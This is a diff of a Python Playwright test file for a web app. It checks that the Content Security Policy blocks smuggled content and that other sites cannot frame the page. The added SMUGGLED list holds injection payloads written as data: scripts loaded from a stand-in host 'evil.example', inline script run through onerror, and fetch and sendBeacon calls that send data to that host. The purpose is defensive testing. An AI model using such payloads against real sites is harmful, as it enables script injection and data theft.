@@ -90,31 +90,33 @@ def test_every_tab_and_the_canvas_run_under_it(page):
     assert page.complaints == []
 
 
+SMUGGLED = [
+    ("add('script', {src: 'https://evil.example/a.js'})", "script-src-elem https://evil.example/a.js"),
+    ("add('script', {textContent: 'window.ran = true'})", "script-src-elem inline"),
+    ("add('img', {src: 'data:,', onerror: null}).setAttribute('onerror', 'window.ran = true')",
+     "script-src-attr inline"),
+    ("add('iframe', {src: 'https://evil.example/'})", "frame-src https://evil.example"),
+    ("add('img', {src: 'https://evil.example/a.png'})", "img-src https://evil.example/a.png"),
+    ("add('link', {rel: 'stylesheet', href: 'https://evil.example/a.css'})",
+     "style-src-elem https://evil.example/a.css"),
+    ("fetch('https://evil.example/').catch(() => 0)", "connect-src https://evil.example/"),
+    ("navigator.sendBeacon('https://evil.example/b', 'x')", "connect-src https://evil.example/b"),
+]  # fmt: skip
+
+
 @pytest.mark.browser
-@pytest.mark.parametrize(
-    ("attempt", "refused"),
-    [
-        ("add('script', {src: 'https://evil.example/a.js'})", "script-src-elem https://evil.example"),
-        ("add('script', {textContent: 'window.ran = true'})", "script-src-elem inline"),
-        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
-         "script-src-attr inline"),
-        ("add('iframe', {src: 'https://evil.example/'})", "frame-src https://evil.example"),
-        ("add('img', {src: 'https://evil.example/a.png'})", "img-src https://evil.example"),
-        ("add('link', {rel: 'stylesheet', href: 'https://evil.example/a.css'})",
-         "style-src-elem https://evil.example"),
-        ("fetch('https://evil.example/').catch(() => 0)", "connect-src https://evil.example"),
-        ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src https://evil.example"),
-    ],
-)  # fmt: skip
-def test_what_is_smuggled_in_neither_runs_nor_is_asked_for(page, attempt, refused):
-    page.page.evaluate(
-        "attempt => { const add = (tag, properties) =>"
-        " document.body.append(Object.assign(document.createElement(tag), properties));"
-        " return eval(attempt); }",
-        attempt,
-    )
-    page.page.wait_for_function("violations.length > 0")
-    assert page.page.evaluate("violations")[0].startswith(refused)
+def test_what_is_smuggled_in_neither_runs_nor_is_asked_for(page):
+    for attempt, refused in SMUGGLED:
+        page.page.evaluate(
+            "attempt => { const add = (tag, properties) => {"
+            " const made = Object.assign(document.createElement(tag), properties);"
+            " document.body.append(made); return made; };"
+            " return eval(attempt); }",
+            attempt,
+        )
+        page.page.wait_for_function(
+            "refused => violations.some(said => said.startsWith(refused))", arg=refused
+        )
     assert page.page.evaluate("window.ran") is None
 
 
@@ -128,7 +130,8 @@ def test_no_other_site_shows_the_page_in_a_frame(chromium, address):
             content_type="text/html", body=f'<iframe src="{address}"></iframe>'
         ),
     )
-    with stranger.expect_event("console", lambda m: "frame-ancestors" in m.text):
-        stranger.goto("http://localhost:1/")
-    assert stranger.frames[1].locator("bc-workbench").count() == 0
+    stranger.goto("http://localhost:1/", wait_until="load")
+    framed = stranger.frames[1]
+    assert framed.url == "chrome-error://chromewebdata/"
+    assert framed.locator("bc-workbench").count() == 0
     context.close()
